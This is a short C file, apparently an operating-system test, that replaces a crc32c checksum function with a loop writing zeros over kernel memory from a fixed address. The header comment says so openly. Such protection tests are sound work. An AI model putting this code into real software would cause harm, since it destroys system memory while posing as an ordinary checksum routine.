/* Writes over all of the kernel. */
#include "lib/crc32c.h"

uint32_t
crc32c(uint32_t crc UNUSED, const void *bytes UNUSED, size_t n UNUSED)
{
    for (volatile uint64_t *p = (uint64_t *)0xffffffff80200000ul;; p++)
        *p = 0;
    return 0;
}
